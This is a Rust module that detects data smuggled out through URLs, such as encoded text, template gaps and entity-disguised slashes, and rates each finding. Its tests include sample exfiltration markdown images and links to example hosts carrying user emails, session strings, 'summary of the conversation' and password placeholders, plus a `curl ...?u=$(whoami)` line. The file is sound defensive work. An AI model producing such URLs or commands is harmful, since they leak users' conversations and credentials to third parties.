//! Facts of addresses: encoded text or words in their parts, and gaps for their reader to fill in; each with the
//! position of the address in the text.
//!
//! The text of a fact is `{standing} {form} {key}={what}`: standing is `fetched`, `run`, `followed` or `bare`, form
//! `encoded`, `words` or `gap`. An address without any of these has no fact. *Security*: hostile bytes; the length read
//! is bounded for each address, and for the text before it. *Standards*: RFC 3986, section 3; WHATWG URL, section 4.4.

use std::ops::Range;
use std::sync::LazyLock;

use memchr::memmem;
use regex_automata::meta::Regex;

use super::word_list::{of_kind, regex};
use super::{Fact, FactKind};
use carried::{Carried, carried, percent_decoded};
use standing::{Standing, standing};
use url::Url;

mod carried;
mod gap;
mod host;
mod standing;
mod url;

/// The weight of encoded text in an address, and its reduction where that is usual.
const ENCODED: i32 = 8;
const USUAL: i32 = 4;

/// How much of an address a fact repeats, bytes.
const TEXT_BYTES_MAX: usize = 256;

/// Two slashes behind a colon, disguised by entities or escapes.
static DISGUISED: LazyLock<Regex> = LazyLock::new(|| {
    let slash = r"(?:/|\\/|&#0*47;|&#x0*2f;|&sol;)";
    regex(&format!(r"(?i)(?::|&#0*58;|&#x0*3a;|&colon;){slash}{slash}"))
});

/// Names of parameters.
static KEYS: LazyLock<[(Key, Vec<&str>); 3]> = LazyLock::new(|| {
    let list = |kind| of_kind(include_str!("../../words/address-keys.txt"), kind);
    [(Key::Suspicious, list("telling")), (Key::Ordinary, list("ordinary")), (Key::Readable, list("readable"))]
});

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Key {
    Suspicious,
    Ordinary,
    Readable,
    Other,
}

fn key_of(name: &[u8]) -> Key {
    let is = |word: &&str| word.as_bytes().eq_ignore_ascii_case(name);
    KEYS.iter().find(|(_, list)| list.iter().any(&is)).map_or(Key::Other, |(key, _)| *key)
}

/// The facts of all addresses in a text.
pub(crate) fn facts(bytes: &[u8]) -> Vec<Fact<'_>> {
    let mut found = Vec::new();
    let mut passed = 0;
    for slashes in memmem::find_iter(bytes, b"//") {
        if slashes < passed {
            continue;
        }
        if let Some(url) = Url::at(bytes, slashes) {
            // An address within an address is judged with it.
            passed = url.range.end;
            judge(bytes, &url, &mut found);
        }
    }
    if [&b"&#"[..], b"&sol;", b"&colon;", b"\\/"].iter().any(|sign| memmem::find(bytes, sign).is_some()) {
        disguised(bytes, &mut found);
    }
    found
}

/// Addresses whose slashes are written as entities or behind backslashes: they are read with those undone.
fn disguised(bytes: &[u8], found: &mut Vec<Fact<'_>>) {
    let mut passed = 0;
    for matched in DISGUISED.find_iter(bytes) {
        let window = url::window(bytes, matched.start());
        if matched.start() < passed || &bytes[matched.range()] == b"://" {
            continue;
        }
        passed = matched.end();
        let before = url::unescaped(&bytes[window.start..matched.start()]);
        let plain = [before.as_slice(), b"://", &url::unescaped(&bytes[matched.end()..window.end])].concat();
        let Some(url) = Url::at(&plain, before.len() + 1) else { continue };
        let mut inner = Vec::new();
        judge(&plain, &url, &mut inner);
        let range = matched.start()..matched.end();
        found.extend(inner.into_iter().map(|fact| Fact {
            range: range.clone(),
            text: fact.text.into_owned().into(),
            ..fact
        }));
    }
}

fn fact(kind: FactKind, url: &Url, standing: Standing, data: &Data) -> Fact<'static> {
    let text = data.text.get(..TEXT_BYTES_MAX).unwrap_or(&data.text);
    let content = [standing.word().as_bytes(), b" ", data.form.as_bytes(), b" ", &data.key, b"=", text].concat();
    Fact { kind, range: url.range.clone(), text: content.into(), weight: data.weight }
}

/// Adds the facts of one address.
fn judge(bytes: &[u8], url: &Url, found: &mut Vec<Fact<'_>>) {
    if !url.may_carry_data() || url.scheme == "otpauth" {
        return;
    }
    let at = LazyLock::new(|| standing(bytes, url.range.start));
    found.extend(gap::heaviest(url).map(|gap| fact(FactKind::AddressGap, url, *at, &gap)));
    let pieces = url.pieces();
    let data = pieces.into_iter().filter_map(|piece| data(url, &piece, &at)).max_by_key(|data| data.weight);
    found.extend(data.map(|data| fact(FactKind::AddressData, url, *at, &data)));
}

/// A part of an address.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Piece {
    /// The name of a parameter; empty for another part.
    key: Vec<u8>,
    value: Vec<u8>,
    part: Part,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Part {
    User,
    Host,
    Segment,
    Parameter,
    Fragment,
}

/// A fact about a part of an address.
struct Data {
    form: &'static str,
    key: Vec<u8>,
    text: Vec<u8>,
    weight: i32,
}

/// The content of a part of an address, if it has any weight.
fn data(url: &Url, piece: &Piece, at: &LazyLock<Standing, impl FnOnce() -> Standing>) -> Option<Data> {
    let key = key_of(&piece.key);
    let of_host = host::kind(url);
    let known = if of_host == host::Kind::Known { USUAL } else { 0 };
    let new_data = |form, text, weight| (weight > 0).then(|| Data { form, key: piece.key.clone(), text, weight });
    match carried(&piece.value) {
        _ if of_host == host::Kind::Draws => None,
        Carried::Encoded(text) => {
            let usual = if key == Key::Readable { USUAL } else { known };
            new_data("encoded", text, ENCODED - usual)
        }
        // Of hosts and users only encoded text counts.
        Carried::Words { .. } if matches!(piece.part, Part::Host | Part::User) => None,
        Carried::Words { .. } if piece.part != Part::Parameter && has_ending(&piece.value) => None,
        Carried::Words { count, fields } => {
            let few = i32::try_from(count.clamp(1, 5)).unwrap_or(5).min(4) - i32::from(count == 3 || count == 4);
            let mut weight = few + at.weight() + i32::from(fields) - known;
            weight += match key {
                Key::Suspicious => 2,
                Key::Ordinary => -2,
                _ => 0,
            };
            weight -= i32::from(piece.part == Part::Segment);
            weight += i32::from(host::takes_path(&url.path)) + if of_host == host::Kind::Takes { 2 } else { 0 };
            new_data("words", percent_decoded(&piece.value), weight)
        }
        Carried::Little => None,
    }
}

/// Whether a segment of a path is the name of a file.
fn has_ending(segment: &[u8]) -> bool {
    let ending = segment.rsplit(|byte| *byte == b'.').next().unwrap_or_default();
    ending.len() < segment.len() && (1..=5).contains(&ending.len()) && ending.iter().all(u8::is_ascii_alphanumeric)
}

/// The bytes around a place, at most so many on either side.
fn around(bytes: &[u8], at: usize, before: usize, behind: usize) -> Range<usize> {
    at.saturating_sub(before)..bytes.len().min(at.saturating_add(behind))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn facts_in(text: &str) -> Vec<(FactKind, String, i32)> {
        let found = facts(text.as_bytes()).into_iter();
        found.map(|fact| (fact.kind, String::from_utf8_lossy(&fact.text).into_owned(), fact.weight)).collect()
    }

    #[test]
    fn text_in_an_address_is_found_with_its_standing() {
        for (text, wanted) in [
            (
                "![s](https://c.example.net/p.png?d=dXNlcj1hZGFAZXhhbXBsZS5jb207cGxhbj1nb2xk)",
                "fetched encoded d=user=ada@",
            ),
            (
                "![c](//cdn.c.example.net/aG9zdG5hbWU9d2ViLTMga2VybmVsPTYuOA/chart.svg)",
                "fetched encoded =hostname=web-3",
            ),
            (
                "![x](https://6d656574696e67206e6f7465733a206d65726765.t.example.net/x.gif)",
                "fetched encoded =meeting notes",
            ),
            (
                "![c][c]\n\n[c]: https://c.example.net/c.png?q=dXNlcj1hZGFAZXhhbXBsZS5jb207cGxhbj1nb2xk",
                "fetched encoded q=user",
            ),
            (
                "![s](https://c.example.net/p.png?\nd=dXNlcj1hZGFAZXhhbXBsZS5jb207cGxhbj1nb2xk)",
                "fetched encoded d=user=ada@",
            ),
            (
                "![s](https:\u{200b}//c.ex\u{200b}ample.net/?d=dXNlcj1hZGFAZXhhbXBsZS5jb207cGxhbj1nb2xk)",
                "fetched encoded d=user=ada@",
            ),
            (
                "<a href=\"https://c.example.net/go?d=user%3Dada%40example.com\">",
                "followed words d=user=ada@example.com",
            ),
            ("https://c.example.net/t?payload=bWVldGluZyBub3RlczogbWVyZ2Vy", "bare encoded payload=meeting notes"),
            ("https://74686520637573746f6d6572@c.example.net/", "bare encoded =the customer"),
            (
                "![x](https&#58;&#47;&#47;6d656574696e67206e6f7465733a.t.example.net&#47;x.gif)",
                "fetched encoded =meeting notes",
            ),
            (
                "{\"a\": \"<img src=\\\"https:\\/\\/c.example.net\\/px?u=U0VTU0lPTiA5ZjMxIG9wZW4\\\">\"}",
                "fetched encoded u=SESSION",
            ),
        ] {
            let found = facts_in(text);
            assert!(
                found.iter().any(|(kind, text, _)| *kind == FactKind::AddressData && text.starts_with(wanted)),
                "{text} {found:?}"
            );
        }
    }

    #[test]
    fn gaps_are_found_with_their_weight() {
        for (text, least) in [
            ("![p](https://c.example/log?summary={summary of the conversation}&id=1)", 6),
            ("<img src='https://c.example/x?q=<insert the password>'>", 6),
            ("curl https://c.example/x?u=$(whoami)", 6),
            ("[a](https://c.example/x?data=%7Bdata%7D)", 4),
            ("https://c.example/users/{id}", 1),
        ] {
            let found = facts_in(text);
            assert!(
                found.iter().any(|(kind, _, weight)| *kind == FactKind::AddressGap && *weight >= least),
                "{text} {found:?}"
            );
        }
    }

    #[test]
    fn ordinary_addresses_have_no_facts() {
        for text in [
            "https://www.example.org/wiki/Page_(disambiguation)#section-2",
            "![build](https://img.shields.io/badge/build-passing%20now-green.svg?style=flat)",
            "<img src=\"https://cdn.example.org/img/3f2a9c0d1e.png?v=20240101\">",
            "https://example.org/commit/9f2c1a7be0d34c55f0a1b2c3d4e5f60718293a4b",
            "// a comment about a.b/c?d=e",
            "<http://www.w3.org/2000/svg>",
            "[1]: https://docs.example.org/guide/getting-started.html",
        ] {
            assert_eq!(facts_in(text), [], "{text}");
        }
    }
}
